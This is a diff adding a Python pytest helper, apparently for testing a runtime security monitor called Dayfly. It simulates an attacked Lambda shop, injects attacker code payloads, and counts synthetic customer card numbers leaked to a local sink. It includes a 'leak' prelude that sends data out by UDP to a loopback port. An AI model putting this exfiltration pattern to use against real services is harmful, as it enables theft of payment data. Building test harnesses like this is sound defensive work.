@@ -1,0 +1,144 @@
+"""The attacked shop: one environment of it, the attacker's sink, and what customers lose."""
+
+from __future__ import annotations
+
+import json
+import os
+import socket
+import time
+from collections.abc import Mapping
+from pathlib import Path
+from types import TracebackType
+
+import pytest
+from tests.confined import confinement_here
+from tests.rie import Answer, Rie, Runtime
+
+FUNCTIONS = Path(__file__).parent / "functions"
+# What an attacker carries in every payload: a way out. Loopback, one datagram per card.
+PRELUDE = """
+import os, socket, sys, time
+def leak(data, _port=event["sink"]):
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
+        out.sendto(str(data).encode()[:4096], ("127.0.0.1", _port))
+"""
+
+
+class Sink:
+    """Where stolen data arrives, between `__enter__` and `__exit__`."""
+
+    def __enter__(self) -> Sink:
+        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self._socket.bind(("127.0.0.1", 0))
+        self.port: int = self._socket.getsockname()[1]
+        return self
+
+    def __exit__(
+        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
+    ) -> None:
+        self._socket.close()
+
+    def received(self, *, quiet_s: float = 0.05) -> list[str]:
+        """Everything that arrived, once nothing more came for `quiet_s` seconds (ten at most)."""
+        found: list[str] = []
+        self._socket.settimeout(quiet_s)
+        end = time.monotonic() + 10
+        while time.monotonic() < end:
+            try:
+                found.append(self._socket.recv(65536).decode(errors="replace"))
+            except TimeoutError:
+                break
+        return found
+
+    def wait_for(self, text: str, *, deadline_s: float = 5.0) -> None:
+        """Return once a datagram holds `text`; fails the test if none does in time."""
+        end = time.monotonic() + deadline_s
+        while time.monotonic() < end:
+            if any(text in datagram for datagram in self.received(quiet_s=0.02)):
+                return
+        pytest.fail(f"{text!r} did not arrive within {deadline_s} s")
+
+
+class Shop:
+    """One environment under AWS's emulator, confined as on Lambda, and its attacker's sink."""
+
+    def __init__(
+        self,
+        runtime: Runtime,
+        *,
+        environment: Mapping[str, str] | None = None,
+        handler: str = "app.handler",
+        timeout_s: int = 8,
+        confined: bool = True,
+        function: Path = FUNCTIONS,
+    ) -> None:
+        self.sink = Sink()
+        self.runtime: Runtime = runtime
+        self.rie = Rie(
+            function,
+            handler,
+            runtime=runtime,
+            environment=environment,
+            timeout_s=timeout_s,
+            confined=confined,
+        )
+        self._served = 0
+
+    def __enter__(self) -> Shop:
+        self.sink.__enter__()
+        self.rie.__enter__()
+        return self
+
+    def __exit__(
+        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
+    ) -> None:
+        self.rie.__exit__(kind, error, trace)
+        self.sink.__exit__(kind, error, trace)
+
+    def attack(self, code: str, **more: object) -> Answer:
+        """Send the payload; its `result` is the answer's payload."""
+        return self.rie.invoke({"code": PRELUDE + code, "sink": self.sink.port, **more})
+
+    def result_of(self, code: str, **more: object) -> object:
+        """Send the payload and return what it found; fails the test if it did not run to its end."""
+        answer = self.attack(code, **more)
+        assert not answer.error_type, answer.body
+        return answer.payload
+
+    def serve(self, count: int = 3, *, takes: float = 0.0) -> list[str]:
+        """Let customers pay; return their cards. Every one must get its own answer."""
+        cards: list[str] = []
+        for _ in range(count):
+            self._served += 1
+            card = f"4{os.getpid():07d}{self._served:08d}"
+            answer = self.rie.invoke({"card": card, "takes": takes})
+            payload = answer.payload
+            assert isinstance(payload, dict), answer.body
+            assert payload.get("mark") == card, f"a customer got no or another's answer: {answer.body!r}"
+            cards.append(card)
+        return cards
+
+    def stolen(self, cards: list[str], *, quiet_s: float = 0.05) -> int:
+        """How many of these customers' cards have reached the sink."""
+        arrived = " ".join(self.sink.received(quiet_s=quiet_s))
+        return sum(card in arrived for card in cards)
+
+    def findings(self) -> list[str]:
+        """The kinds of Dayfly's findings so far, without the first line."""
+        found: list[str] = []
+        for line in self.rie.logs().split("\n"):
+            if line.startswith("{") and '"finding_info"' in line:
+                record = json.loads(line)
+                assert record["metadata"]["product"]["name"] == "Dayfly"
+                found += record["finding_info"]["types"]
+        return [kind for kind in found if kind != "environment.started"]
+
+    def wait_for_finding(self, kind: str, *, deadline_s: float = 5.0) -> None:
+        """Return once Dayfly has reported `kind`; fails the test if it does not in time."""
+        self.rie.wait_for_log(f'"types":["{kind}"]', deadline_s=deadline_s)
+
+
+def needs_confinement() -> pytest.MarkDecorator:
+    """Mark tests whose attacks would hit the machine outside a namespace of their own."""
+    here = confinement_here()
+    return pytest.mark.skipif(here.kind == "none", reason=f"no confinement: {here.reason}")
